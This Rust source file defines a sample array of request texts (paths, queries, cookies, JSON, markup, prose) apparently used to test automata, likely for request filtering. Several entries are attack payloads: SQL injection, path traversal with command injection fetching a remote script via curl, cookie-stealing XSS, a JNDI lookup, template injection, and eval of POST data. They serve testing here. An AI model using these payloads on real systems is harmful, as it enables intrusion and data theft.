//! Texts that automata are tried on before they are used: what requests are made of.

/// Some of each kind: paths, queries, forms, JSON, markup, prose, identifiers.
pub(super) const SAMPLE: &[&[u8]] = &[
    b"/catalog/items/8c1f2e-44ab/reviews?sort=newest&page=3&fields=title,author,rating",
    b"q=red+shoes+%22size+42%22&category=women&price=10-50&utm_source=newsletter&utm_medium=email",
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    b"session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.dGVzdA; theme=dark; _ga=GA1.2.1234567890.1700000000",
    br#"{"user":{"name":"Ann O'Neil","mail":"ann@example.com","tags":["a","b"]},"total":12.50,"ok":true}"#,
    b"comment=I+selected+the+blue+one+from+the+list+and+union+members+where+all+or+nothing+agreed%21",
    b"<p>Dear all, <b>please</b> see <a href=\"https://example.com/a?b=c&d=e\">the page</a> &amp; reply.</p>",
    b"id=1' or '1'='1' union select name, pass from users where id = 1 -- ; drop table x /* y */",
    b"../../../../etc/passwd%00;cat /etc/hosts|id&&whoami`uname -a`$(curl http://198.51.100.7/x.sh)",
    b"<img src=x onerror=alert(document.cookie)><script>fetch('//example.org/'+btoa(1))</script>",
    b"${jndi:ldap://example.org/a}{{7*7}}<%= 1 %>#{x}{%if%} eval(base64_decode($_POST[0])); phpinfo();",
    b"The quick brown fox jumps over the lazy dog; pack my box with five dozen liquor jugs. 0123456789",
];
